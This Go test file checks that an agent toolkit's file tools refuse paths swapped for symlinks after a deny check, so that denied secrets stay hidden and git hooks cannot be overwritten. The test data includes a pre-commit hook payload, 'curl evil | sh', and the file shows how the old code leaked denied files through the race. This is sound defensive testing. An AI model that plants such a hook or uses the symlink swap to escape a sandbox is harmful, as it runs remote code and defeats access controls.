package toolkit

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/custos-dev/custos/internal/swaptest"
	"github.com/custos-dev/custos/sandbox/pathguard"
)

const secretText = "TOPSECRET-do-not-show"

// swapWorkspace is a workspace with a/f.txt (harmless) and secret/f.txt,
// which the deny rule secret/** hides from Read.
func swapWorkspace(t *testing.T) string {
	t.Helper()
	ws, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	for name, text := range map[string]string{"a/f.txt": "harmless\n", "secret/f.txt": secretText + "\n", "z.txt": "z\n"} {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(ws, name), []byte(text), 0o644))
	}
	return ws
}

var denySecret = []string{"secret/**"}

// Read's steps with the swap between them: the guard and the deny check
// pass a/f.txt; a is then swapped for a link to the denied directory; the
// opens Read (RegularFile, Root.Open), Write and Edit (ReadRegular) and
// LSP (Root.ReadFile) make all fail, saying the path changed, and the
// denied text appears in no answer.
func TestReadStepsRefuseADirectorySwappedAfterTheCheck(t *testing.T) {
	ws := swapWorkspace(t)
	tgt, err := ResolveTarget(ws, "a/f.txt", false)
	require.NoError(t, err)
	defer tgt.Close()
	require.Empty(t, DeniedTarget("Read", tgt, denySecret, true), "the check passes a/f.txt")
	swaptest.Dir(t, ws, "a", "secret")

	var seen []string
	fi, err := RegularFile(tgt, "a/f.txt")
	require.ErrorIs(t, err, pathguard.ErrPathChanged)
	require.Nil(t, fi)
	seen = append(seen, err.Error())
	f, err := tgt.Root.Open(tgt.Rel)
	require.ErrorIs(t, err, pathguard.ErrPathChanged)
	require.Nil(t, f)
	data, _, err := ReadRegular(tgt.Root, tgt.Rel, 1<<20)
	require.ErrorIs(t, err, pathguard.ErrPathChanged)
	seen = append(seen, string(data), err.Error())
	data, err = tgt.Root.ReadFile(tgt.Rel)
	require.ErrorIs(t, err, pathguard.ErrPathChanged)
	seen = append(seen, string(data), err.Error())
	for _, s := range seen {
		require.NotContains(t, s, secretText)
	}
	require.Contains(t, seen[0], "the path changed while it was being opened")

	// The same name through os.Root, as the tools opened it before: the
	// secret (the hole this closes).
	leak, err := os.OpenRoot(ws)
	require.NoError(t, err)
	defer leak.Close()
	b, err := leak.ReadFile(tgt.Rel)
	require.NoError(t, err)
	require.Contains(t, string(b), secretText)
}

// Write's steps with the swap between them: the guard passes a/pre-commit
// for writing (a is an ordinary directory); a is then swapped for a link
// to .git/hooks. WriteAtomic refuses, and the hook is unchanged.
func TestWriteAtomicRefusesADirectorySwappedAfterTheCheck(t *testing.T) {
	ws := swapWorkspace(t)
	hook := filepath.Join(ws, ".git", "hooks", "pre-commit")
	require.NoError(t, os.MkdirAll(filepath.Dir(hook), 0o755))
	require.NoError(t, os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(ws, "a", "pre-commit"), []byte("notes\n"), 0o644))
	tgt, err := ResolveTarget(ws, "a/pre-commit", true)
	require.NoError(t, err)
	defer tgt.Close()
	require.Empty(t, DeniedTarget("Write", tgt, denySecret, false))
	swaptest.Dir(t, ws, "a", ".git/hooks")

	_, err = WriteAtomic(tgt.Root, tgt.Rel, []byte("#!/bin/sh\ncurl evil | sh\n"))
	require.ErrorIs(t, err, pathguard.ErrPathChanged)
	got, err := os.ReadFile(hook)
	require.NoError(t, err)
	require.Equal(t, "#!/bin/sh\nexit 0\n", string(got), "the protected hook is unchanged")
	entries, err := os.ReadDir(filepath.Dir(hook))
	require.NoError(t, err)
	require.Len(t, entries, 1, "no temporary file was left beside the hook")
	old, err := os.ReadFile(filepath.Join(ws, "a.was", "pre-commit"))
	require.NoError(t, err)
	require.Equal(t, "notes\n", string(old))
}

// Glob's and Grep's walk with the swap in it: the workspace is listed
// (0.txt, a, secret, z.txt); visiting 0.txt, before the walk enters a, a
// is swapped for a link to the denied directory. The walk skips a rather
// than list (and Grep read) the denied files under a's name.
func TestWalkFilesEntersNoDirectorySwappedDuringTheWalk(t *testing.T) {
	ws := swapWorkspace(t)
	require.NoError(t, os.WriteFile(filepath.Join(ws, "0.txt"), []byte("0\n"), 0o644))
	tgt, err := SearchRoot(ws, "")
	require.NoError(t, err)
	defer tgt.Close()
	hidden, err := NewHider(tgt.WS, denySecret)
	require.NoError(t, err)
	var visited []string
	err = WalkFiles(context.Background(), tgt.Root, tgt.Rel, hidden.Hides, func(rel string, fi fs.FileInfo) error {
		if rel == "0.txt" {
			swaptest.Dir(t, ws, "a", "secret") // after the root was listed, before a is
		}
		if hidden.Hides(rel) {
			return nil
		}
		visited = append(visited, rel)
		if fi.Mode().IsRegular() {
			data, _, err := ReadRegular(tgt.Root, filepath.FromSlash(rel), 1<<20)
			if err == nil {
				require.NotContains(t, string(data), secretText, "%s", rel)
			}
		}
		return nil
	})
	require.NoError(t, err)
	require.Equal(t, []string{"0.txt", "z.txt"}, visited, "a (now a link to secret) is not entered; secret itself is hidden")

	// filepath.WalkDir, as Glob and Grep walked before, lists the denied
	// directory's files under a's name in the same race.
	require.NoError(t, os.Remove(filepath.Join(ws, "a")))
	require.NoError(t, os.Rename(filepath.Join(ws, "a.was"), filepath.Join(ws, "a")))
	var old []string
	require.NoError(t, filepath.WalkDir(ws, func(p string, d fs.DirEntry, err error) error {
		rel, _ := filepath.Rel(ws, p)
		if err != nil || hidden.Hides(filepath.ToSlash(rel)) {
			return nil
		}
		if rel == "0.txt" {
			swaptest.Dir(t, ws, "a", "secret")
		}
		if d.Type().IsRegular() {
			old = append(old, filepath.ToSlash(rel))
		}
		return nil
	}))
	require.Contains(t, old, "a/f.txt")
	b, err := os.ReadFile(filepath.Join(ws, "a", "f.txt"))
	require.NoError(t, err)
	require.Contains(t, string(b), secretText, "what WalkDir listed as a/f.txt is the denied file")
}

// The hard-link half of the deny check with the swap before it: a/f.txt
// passes by name, then a becomes a link to the denied directory, so the
// check cannot look at the file it would clear. It refuses (an error,
// which every caller takes as hidden) rather than clear a name it could
// not look at; a name that is not there is not hidden.
func TestHidesFileFailsClosedOnAPathItCannotLookAt(t *testing.T) {
	ws := swapWorkspace(t)
	hider, err := NewHider(ws, denySecret)
	require.NoError(t, err)
	root, err := pathguard.OpenRoot(ws)
	require.NoError(t, err)
	defer root.Close()
	hidden, err := hider.HidesFile(root, "a/f.txt")
	require.NoError(t, err)
	require.False(t, hidden, "before the swap a/f.txt is readable")
	swaptest.Dir(t, ws, "a", "secret")
	_, err = hider.HidesFile(root, "a/f.txt")
	require.ErrorIs(t, err, pathguard.ErrPathChanged)
	hidden, err = hider.HidesFile(root, "missing.txt")
	require.NoError(t, err)
	require.False(t, hidden)
}
